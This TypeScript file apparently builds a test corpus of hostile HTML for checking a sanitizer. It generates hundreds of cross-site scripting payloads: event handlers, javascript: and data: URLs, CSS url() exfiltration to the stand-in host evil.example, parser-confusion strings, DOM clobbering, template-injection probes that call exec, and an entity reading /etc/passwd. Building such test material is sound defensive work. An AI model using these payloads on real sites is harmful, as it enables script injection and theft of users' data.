import { SCRIPTS } from './scripts.ts';

/**
 * Hostile markup, made from what attackers vary: elements, handlers, addresses and how they are written, what a parser takes for something
 * else. Each runs `pwn(n)` or asks `evil.example/n` if it were shown as it came, so that what ran can be told apart. A new trick is a line.
 */
export type Hostile = { readonly n: number; readonly group: string; readonly html: string };

/** What a trick is made of: code that tells on itself, and an address outside. */
type Parts = { readonly run: string; readonly host: string; readonly call: string };
type Trick = (parts: Parts) => string;

const list = (text: string) => text.trim().split(/\s+/);
const each = <T>(values: readonly T[], trick: (value: T, index: number) => Trick): Trick[] => values.map(trick);
const take = <T>(values: readonly T[], at: number): T => values[at % values.length] as T;

/** What may stand between the name of an element and its attribute. */
const GAPS = [' ', '/', '\n', '\t', '\f', '\r\n', '//', ' / ', '/x=">"/', ' \u000b', ' x=\u0000 ', '\u00a0 ', '/!/'];
const QUOTES: readonly ((code: string) => string)[] = [
  (code) => `"${code}"`,
  (code) => `'${code}'`,
  (code) => code,
  (code) => `" ${code.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;')} "`,
  (code) => `"${entities(code)}"`,
];
const entities = (text: string) => [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');

const EVENTS = list(`
  onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch
  onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncanplay oncanplaythrough onchange onclick onclose
  oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondrop ondurationchange
  onend onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown onkeypress
  onkeyup onload onloadeddata onloadedmetadata onloadstart onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout
  onmouseover onmouseup onpagehide onpageshow onpaste onplay onplaying onpointerdown onpointerenter onpointermove onpointerover
  onpointerrawupdate onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onseeked
  onselect onselectionchange onselectstart onshow onstart onsubmit onsuspend ontimeupdate ontoggle ontouchstart ontransitionend
  ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwheel ONERROR OnLoad`);
const CARRIERS: readonly [before: string, after: string][] = [
  ['<img src=x', '>'], ['<svg', '></svg>'], ['<body', '>'], ['<video src=x autoplay', '></video>'], ['<details open', '><summary>x</summary></details>'],
  ['<input autofocus value=x', '>'], ['<div contenteditable tabindex=0', '>x</div>'], ['<p', '>x</p>'], ['<a href="https://x.example" tabindex=1', '>x</a>'],
  ['<audio src=data:,x autoplay', '></audio>'], ['<x-y tabindex=0 autofocus', '>x</x-y>'], ['<math tabindex=0', '><mi>x</mi></math>'],
  ['<svg><animate attributeName=x dur=1s', '></svg>'], ['<object data=x', '></object>'], ['<table', '><tr><td>x</td></tr></table>'],
]; // biome-ignore format: a table

const handlers = each(EVENTS, (event, i) => ({ run }) => {
  const [before, after] = take(CARRIERS, i);
  return `${before}${take(GAPS, i)}${event}=${take(QUOTES, i + Math.floor(i / 7))(run)}${after}`;
});

/** Ways to write the scheme that runs what follows. */
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', '\u0000javascript:', 'java\tscript:', 'java\nscript:', 'java\r\nscript:', 'javascript&colon;',
  'javascript&#58;', 'javascript&#x3A', 'java&Tab;script:', 'java&NewLine;script:', '&#106avascript:', '&#0000106;&#0000097;vascript:', 'javascript\t:', 'javascript://%0a',
  'javascript:/*--></title></style></textarea></script>*/', '\u00a0javascript:', '\u2028javascript:', '\ufeffjavascript:', 'feed:javascript:', 'view-source:javascript:',
  'jar:javascript:', 'livescript:', 'mocha:', 'vbscript:', 'VBSCRIPT&colon;', '\uff4aavascript:', 'javas\u0000cript:', 'javas\u200bcript:', 'blob:javascript:', 'filesystem:javascript:',
]; // biome-ignore format: a table
const DOCUMENTS: readonly Trick[] = [
  ({ run }) => `data:text/html,<script>parent.${run}</script>`,
  ({ run }) => `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString('base64')}`,
  ({ run }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  ({ run }) => `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${run}</script></html>`,
  ({ run }) => `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${run}</x:script>`,
  ({ run }) => `DATA:,<script>${run}</script>`,
];
/** Attributes that take an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}">x</a>`, (a) => `<area href="${a}">`, (a) => `<form action="${a}"><button>x</button></form>`, (a) => `<button formaction="${a}">x</button>`,
  (a) => `<input type=image src=x formaction="${a}">`, (a) => `<iframe src="${a}"></iframe>`, (a) => `<frameset><frame src="${a}"></frameset>`, (a) => `<object data="${a}"></object>`,
  (a) => `<object><param name=movie value="${a}"></object>`, (a) => `<embed src="${a}">`, (a) => `<svg><a href="${a}"><text>x</text></a></svg>`,
  (a) => `<svg><a xlink:href="${a}"><text>x</text></a></svg>`, (a) => `<svg><use href="${a}#x"/></svg>`, (a) => `<svg><image href="${a}"/></svg>`,
  (a) => `<svg><animate xlink:href=#x attributeName=href values="${a}"/><a id=x><text>x</text></a></svg>`, (a) => `<svg><a><set attributeName=href to="${a}"/><text>x</text></a></svg>`,
  (a) => `<math href="${a}"><mi>x</mi></math>`, (a) => `<math><maction actiontype="statusline#x" xlink:href="${a}">x</maction></math>`, (a) => `<img src="${a}">`, (a) => `<img srcset="${a} 2x">`,
  (a) => `<img lowsrc="${a}" dynsrc="${a}" longdesc="${a}">`, (a) => `<video poster="${a}"></video>`, (a) => `<body background="${a}">`, (a) => `<table background="${a}"><tr><td background="${a}">x</td></tr></table>`,
  (a) => `<meta http-equiv=refresh content="0;url=${a}">`, (a) => `<base href="${a}">`, (a) => `<link rel=stylesheet href="${a}">`, (a) => `<link rel=import href="${a}">`,
  (a) => `<blockquote cite="${a}">x</blockquote>`, (a) => `<q cite="${a}">x</q>`, (a) => `<a href=# ping="${a}">x</a>`, (a) => `<applet code="${a}"></applet>`, (a) => `<isindex action="${a}" type=image>`,
  (a) => `<bgsound src="${a}">`, (a) => `<layer src="${a}"></layer>`, (a) => `<portal src="${a}"></portal>`, (a) => `<fencedframe src="${a}"></fencedframe>`, (a) => `<script src="${a}"></script>`,
  (a) => `<a title=x href='${a}' target=_top rel=opener>x</a>`, (a) => `<track src="${a}" default>`,
]; // biome-ignore format: a table

const schemes = [
  ...each(
    SCHEMES,
    (scheme, i) =>
      ({ run }) =>
        take(PLACES, 0)(`${scheme}${run}`).replace('>x<', `>x${i}<`),
  ),
  ...each(
    PLACES,
    (place, i) =>
      ({ run }) =>
        place(`${take(SCHEMES, i % 3)}${run}`),
  ),
  ...each(
    DOCUMENTS,
    (address, i) => (parts) => take([PLACES[0], PLACES[5], PLACES[7], PLACES[9]], i)?.(address(parts)) ?? '',
  ),
];

/** What asks a place outside as soon as it is there. */
const OUTSIDE: readonly ((address: string) => string)[] = [
  ...[0, 5, 7, 9, 11, 13, 18, 19, 20, 21, 22, 23, 24, 25, 26, 30, 33, 34, 37].map((i) => take(PLACES, i)),
  (a) => `<picture><source srcset="${a}"><img src=x></picture>`, (a) => `<img srcset="${a} 1x, ${a}?2 2x" sizes=1px loading=eager>`, (a) => `<img attributionsrc="${a}" src=x>`,
  (a) => `<video src="${a}" preload=auto autoplay></video>`, (a) => `<video><source src="${a}"></video>`, (a) => `<audio src="${a}" preload=auto></audio>`, (a) => `<input type=image src="${a}">`,
  ...list('stylesheet preload prefetch dns-prefetch preconnect modulepreload prerender icon manifest apple-touch-icon alternate next pingback').map(
    (rel) => (a: string) => `<link rel=${rel} as=image href="${a}">`),
  (a) => `<svg><use xlink:href="${a}#x"></use></svg>`, (a) => `<svg><filter><feImage href="${a}"/></filter></svg>`, (a) => `<svg><script href="${a}"/></svg>`, (a) => `<svg><image xlink:href="${a}" width=1 height=1/></svg>`,
  (a) => `<svg><rect fill="url(${a})" width=9 height=9 /></svg>`, (a) => `<svg><foreignObject><img src="${a}"></foreignObject></svg>`, (a) => `<svg><style>@import '${a}';</style></svg>`,
  (a) => `<iframe srcdoc="<img src='${a}'>"></iframe>`, (a) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${a}"]}]}</script>`, (a) => `<script type=importmap>{"imports":{"x":"${a}"}}</script>`,
  (a) => `<meta http-equiv=Link content="<${a}>;rel=preload;as=image">`, (a) => `<meta http-equiv=refresh content="0; url='${a}'">`, () => `<meta http-equiv=set-cookie content="fettle_session=x">`,
  (a) => `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${a}">`, (a) => `<object type="text/x-scriptlet" data="${a}"></object>`, (a) => `<html manifest="${a}">`,
  (a) => `<img src="${a.replace('http:', '')}">`, (a) => `<img src="${a.replace('http://', '\\\\')}">`, (a) => `<img src="${a.replace('http://', 'http:\\')}">`, (a) => `<img src=/api/v1/article-files/../../..${a.replace('http:', '')}>`,
  (a) => `<a href="${a}" target=fettle rel="opener">x</a>`, (a) => `<form action="${a}"><input name=q autofocus><input type=submit formtarget=_top></form>`,
]; // biome-ignore format: a table
const outside = each(
  OUTSIDE,
  (place) =>
    ({ host }) =>
      place(`http://${host}`),
);

/** Ways to write an address in a style. */
const STYLES: readonly ((address: string, run: string) => string)[] = [
  ...list('background background-image list-style border-image-source cursor content mask clip-path filter shape-outside offset-path -webkit-mask-image').map((property) =>
    (a: string) => `${property}:url(${a})`),
  (a) => `background:image-set("${a}" 1x)`, (a) => `background:-webkit-image-set(url("${a}") 1x)`, (a) => `background:cross-fade(url(${a}),url(${a}),50%)`, (a) => `background:\\75\\72\\6c(${a})`,
  (a) => `background:u/**/rl(${a})`, (a) => `--x:url(${a});background:var(--x)`, (a) => `background:src("${a}")`, (_, run) => `width:expression(${run})`, (_, run) => `xss:expr/**/ession(${run})`,
  (_, run) => `background:url(javascript:${run})`, (a) => `-moz-binding:url(${a}#x)`, (a) => `behavior:url(${a})`, () => 'position:fixed;inset:0;z-index:99999;background:#fff', () => 'display:block;position:absolute;top:-9999px;width:9999px',
]; // biome-ignore format: a table
const styles: Trick[] = [
  ...each(STYLES, (style, i) => ({ host, run }) => {
    const css = style(`http://${host}`, run);
    return i % 2 ? `<p style="${css.replaceAll('"', '&quot;')}">x</p>` : `<style>p,div,.f-text{${css}}</style><p>x</p>`;
  }),
  ({ host }) => `<style>@import "http://${host}";</style>`,
  ({ host }) => `<style>@\\69mport url(http://${host});</style>`,
  ({ host }) => `<style>@font-face{font-family:x;src:url(http://${host})}*{font-family:x!important}</style>`,
  ({ host }) => `<style>input[value^="a"],a[href*="t"]{background:url(http://${host})}</style><input value=abc>`,
  ({ host }) => `<style>@namespace x url(http://${host});@media all{body{background:url(http://${host})}}</style>`,
  ({ run }) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  ({ run }) => `<style></style\n><script>${run}</script>`,
  ({ run }) => `<style><!--</style><img src=x onerror=${run}>--></style>`,
  ({ run }) => `<style>*{content:"</style><img src=x onerror=${run}>"}</style>`,
  ({ run }) => `<p style="x:'&quot;&gt;&lt;img src=x onerror=${run}&gt;'">x</p>`,
  ({ host }) => `<xss style="x:&#x75;rl(http://${host})">x</xss>`,
];

/** Content of another kind, within which the same letters mean something else. */
const SPACES: readonly [open: string, close: string][] = [
  ['<svg>', '</svg>'], ['<svg><desc>', '</desc></svg>'], ['<svg><foreignObject>', '</foreignObject></svg>'], ['<svg><title>', '</title></svg>'], ['<math>', '</math>'],
  ['<math><mtext><table><mglyph>', '</math>'], ['<math><annotation-xml encoding="text/html">', '</math>'], ['<form><math><mtext></form><form><mglyph>', '</math></form>'], ['<table><caption><svg>', '</svg></table>'],
  ['<select><svg>', '</svg></select>'], ['<p><svg></p>', '</svg>'], ['<template>', '</template>'],
]; // biome-ignore format: a table
const RAW = list('style title textarea noscript xmp iframe noembed noframes script select option template');
const spaces = SPACES.flatMap(([open, close], i) =>
  RAW.map<Trick>((raw, j) => ({ run }) => {
    const image = `<img src=x onerror=${run}>`;
    const inside = take(
      [`<${raw}>${image}</${raw}>`, `<${raw}><!--</${raw}>${image}-->`, `<${raw}><a title="</${raw}>${image}">x</a>`, `<![CDATA[<${raw}>]]></${raw}>${image}`],
      i + j); // biome-ignore format: a table
    return `${open}${inside}${close}`;
  }),
);

const parsers: readonly Trick[] = [
  ({ run }) => `<!--><img src=x onerror=${run}>-->`,
  ({ run }) => `<!---><img src=x onerror=${run}>-->`,
  ({ run }) => `<!--x--!><img src=x onerror=${run}>`,
  ({ run }) => `<!-- --\n><img src=x onerror=${run}> -->`,
  ({ run }) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  ({ run }) => `<?php ><img src=x onerror=${run}>?>`,
  ({ run }) => `<?xml-stylesheet href="javascript:${run}"?>`,
  ({ run }) => `<!doctype html [<!entity x "<img src=x onerror=${run}>">]>&x;`,
  ({ run }) => `<!ENTITY x SYSTEM "file:///etc/passwd"><img src=x onerror=${run}>`,
  ({ run }) => `</ ><img src=x onerror=${run}>`,
  ({ run }) => `</br style><img src=x onerror=${run}>`,
  ({ run }) => `<<img src=x onerror=${run}>`,
  ({ run }) => `<<script>${run}//<</script>`,
  ({ run }) => `<script\u0000>${run}</script>`,
  ({ run }) => `<\u0000script>${run}</script>`,
  ({ run }) => `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  ({ run }) => `<script >${run}</script >`,
  ({ run }) => `<script\n>${run}</script\t\n foo>`,
  ({ run }) => `<script/src=data:,${run}></script>`,
  ({ run }) => `<script type=module>${run}</script>`,
  ({ run }) => `<script><!--<script>${run}--></script>`,
  ({ run }) => `<img src=x onerror=${run}`,
  ({ run }) => `<img src="x" title="" onerror=${run}//`,
  ({ run }) => `<img """><script>${run}</script>">`,
  ({ run }) => `<img alt="\`><script>${run}</script>\`">`,
  ({ run }) => `<p title="a\u0000"onmouseover="${run}">x</p>`,
  ({ run }) => `<a href="x" title="&quot;onmouseover=&quot;${run}">x</a>`,
  ({ run }) => `<image/src/onerror=${run}>`,
  ({ run }) => `<select><template><img src=x onerror=${run}></template></select>`,
  ({ run }) => `<div shadowrootmode=open><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  ({ run }) => `<template><template></template><script>${run}</script></template>`,
  ({ run }) => `<table><img src=x onerror=${run}><tr><td>x`,
  ({ run }) => `<a><table><a><img src=x onerror=${run}></a></table></a>`,
  ({ run }) => `<b><p><b><p><b><p><svg><p><style><img src=x onerror=${run}></style>`,
  ({ run }) => `<p id="</style><img src=x onerror=${run}>"><svg><style><p id="</style><img src=x onerror=${run}>">`,
  ({ run }) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  ({ run }) => `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  ({ run }) => `<title><p title="</title><img src=x onerror=${run}>">`,
  ({ run }) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  ({ run }) => `<iframe srcdoc='<svg onload=parent.${run}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  ({ run }) => `<object type=text/html data="data:text/html,<script>${run}</script>"></object>`,
  ({ run }) => `<svg><script>&#x61;lert;${run}</script></svg>`,
  ({ run }) => `<svg><script xlink:href=data:,${run}></script></svg>`,
  ({ run }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  ({ run }) => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script></svg>`,
  ({ run }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  ({ run }) =>
    `<xml id=x><i><b><img src=x onerror=${run}></b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
  ({ run }) => `<comment><img src="</comment><img src=x onerror=${run}>">`,
  ({ run }) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  ({ run }) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  ({ run }) => `${'<div>'.repeat(600)}<img src=x onerror=${run}>`,
  ({ run }) => `${'<svg><g>'.repeat(60)}<style><img src=x onerror=${run}></style>`,
  ({ run }) => `<a ${'x=y '.repeat(2_000)}onclick=${run}>x</a>`,
  ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ({ run }) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  ({ run }) => `%3Cscript%3E${run}%3C%2Fscript%3E`,
  ({ run }) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e \\u003cimg src=x onerror=${run}\\u003e`,
  ({ run }) => `&lt;script&gt;${run}&lt;/script&gt;&amp;lt;img src=x onerror=${run}&amp;gt;`,
  ({ run }) => `&#x3c;img src=x onerror=${run}&#x3e; &#60img src=x onerror=${run}&#62`,
];

/** Names under which the page looks for its own things. */
const CLOBBERED = list(
  'content root app body head cookie location attributes parentNode childNodes documentElement getElementById createElement querySelector defaultView nodeName innerHTML firstChild removeChild fetch top self window __proto__ constructor hasOwnProperty toString submit',
);
const clobbering: readonly Trick[] = [
  ...each(CLOBBERED, (name, i) => () =>
    take(
      [`<form id="${name}"><input name="${name}"><input name=attributes></form>`, `<img name="${name}">`, `<a id="${name}"></a><a id="${name}" name="${name}" href="//evil.example">x</a>`,
        `<object id="${name}"></object>`, `<iframe name="${name}"></iframe>`, `<p id="${name}" class="f-app mantine-Modal-overlay">x</p>`],
      i)), // biome-ignore format: a table
  ({ run }) => `<form><input name=attributes><input onfocus=${run} autofocus></form>`,
  ({ run }) => `<form onmouseover=${run}><input name=attributes name=nodeName></form>`,
  ({ run }) =>
    `<a is=x-y contenteditable popovertarget=x onclick=${run}>x</a><p popover id=x onbeforetoggle=${run}>x</p>`,
  () => '<slot name=x slot=content part=x exportparts=x inert hidden accesskey=k tabindex=1 draggable=true>x</slot>',
];

/** Marks of templates, in case somebody renders what they wrote once more. */
const templates: readonly Trick[] = [
  ({ call }) => `{{constructor.constructor('${call}')()}}`,
  ({ call }) => `{{_self.env.registerUndefinedFilterCallback('exec')}}{{${call}}}`,
  () => '{{7*7}} {{ticket.requester.email}} {{{7*7}}} {% debug %} {%raw%}',
  ({ call }) => `\u0024{${call}} #{${call}} <%= ${call} %> @(${call}) *{${call}} ~{x}`,
  ({ run }) => `<p ng-app ng-init="${run}" ng-bind-html="'<img src=x onerror=${run}>'">{{${run}}}</p>`,
  ({ run }) =>
    `<p v-html="'<img src=x onerror=${run}>'" v-on:click="${run}" @click="${run}" :href="javascript:${run}">x</p>`,
  ({ run }) => `<p x-data x-init="${run}" x-on:load.window="${run}">x</p>`,
  ({ host }) => `<p hx-get="http://${host}" hx-trigger="load" data-hx-post="http://${host}">x</p>`,
  ({ run }) =>
    `<p data-bind="html: '<img src=x onerror=${run}>'" data-reactroot data-toggle=tooltip data-html=true title="<img src=x onerror=${run}>">x</p>`,
  ({ run }) =>
    `<span data-type="mention" data-id="0193ffff-ffff-7fff-bfff-ffffffffffff" data-label="<img src=x onerror=${run}>">@x</span>`,
  ({ run }) =>
    `<span data-type="mention" data-id="javascript:${run}" data-label="</span><script>${run}</script>">@x</span>`,
  ({ run }) => `[x](javascript:${run}) ![x](x "onerror=${run}") <javascript:${run}>`,
  ({ run }) => `[x]: javascript:${run} 'x'\n[x] \`<img src=x onerror=${run}>\``,
  ({ run }) => `javascript:${run} https://x.example/"onmouseover="${run} www.x.example/<img/src/onerror=${run}>`,
];

const unicode: readonly Trick[] = [
  ({ run }) => `\u202e<script>${run}</script>\u202c`,
  ({ run }) => `\u2066<img src=x onerror=${run}>\u2069`,
  ({ run }) => `<\u200bscript>${run}</\u200bscript>`,
  ({ run }) => `<img src=x on\u200berror=${run} onerror\u2028=${run}>`,
  ({ run }) => `\uff1cimg src=x onerror=${run}\uff1e \u2039script\u203a${run}\u2039/script\u203a`,
  ({ run }) => `<\u017fcript>${run}</\u017fcript> <\u017fvg onload=${run}>`,
  ({ run }) => `<img \u0130d=x onerr\u006fr=${run} src=x>`,
  ({ run }) => `\ud800<img src=x onerror=${run}>\udc00`,
  ({ run }) => `<a href="https://\u0430pple.example" onclick=${run}>apple.example</a>`,
  ({ run }) => `a${'\u0300'.repeat(200)}<img src=x onerror=${run}>`,
  ({ run }) => `\ufeff<script>${run}</script>`,
  ({ run }) => `<p>\u0000\u0001\u0008\u000b\u000c\u000e\u001f\u007f\u0085</p><img\u0085src=x onerror=${run}>`,
  ({ run }) => `\u001b[31m<img src=x onerror=${run}>\u001b]0;x\u0007`,
  ({ run }) => `\u{e003c}img src=x onerror=${run}\u{e003e}<script>${run}</script>`,
];

const classics = SCRIPTS.map<Trick>(
  (script) =>
    ({ run, host }) =>
      script.replaceAll('pwn()', run).replaceAll('evil.example', host),
);

const GROUPS: Readonly<Record<string, readonly Trick[]>> = {
  handlers, schemes, outside, styles, spaces, parsers, clobbering, templates, unicode, classics,
}; // biome-ignore format: a table

/** All of them, numbered from 1. */
export const MARKUP: readonly Hostile[] = Object.entries(GROUPS)
  .flatMap(([group, tricks]) => tricks.map((trick) => ({ group, trick })))
  .map(({ group, trick }, i) => {
    const n = i + 1;
    const run = `pwn(${n})`;
    return { n, group, html: trick({ run, call: `pwn(${n})`, host: `evil.example/${n}` }) };
  });

/** Ends whatever an unfinished piece before it may have opened, so that the next one meets the parser afresh. */
export const END = `"'>--></style></script></title></textarea></xmp></noscript></iframe></noembed></noframes></template></select></svg></math></form></table>`;

/** The same as one line without signs that no name may have, for fields of plain text. */
export const oneLine = ({ html }: Hostile): string =>
  html.replace(/[^\P{Cc}\t]|\p{Cs}|[\u2028-\u202e\u2066-\u2069]/gu, '');

/** What the API takes of a text: NUL and halves of signs are refused by it, and come by mail alone. */
export const storable = (html: string): string => html.replace(/\p{Cs}/gu, '').replaceAll('\u0000', '');

/** All tricks as single lines of at most so many signs. */
export function linesOf(most: number): string[] {
  const made: string[] = [];
  let line = '';
  for (const trick of MARKUP) {
    const text = oneLine(trick).trim().slice(0, most);
    if (line.length + text.length > most) {
      made.push(line);
      line = '';
    }
    line += text;
  }
  return [...made, line];
}

/** All tricks as plain texts of at most so many signs, which nothing unfinished joins. */
export function textsOf(most: number): string[] {
  const made: string[] = [];
  let text = '';
  for (const { html } of MARKUP) {
    const piece = `${storable(html)}${END}\n`.slice(0, most);
    if (text.length + piece.length > most) {
      made.push(text);
      text = '';
    }
    text += piece;
  }
  return [...made, text];
}
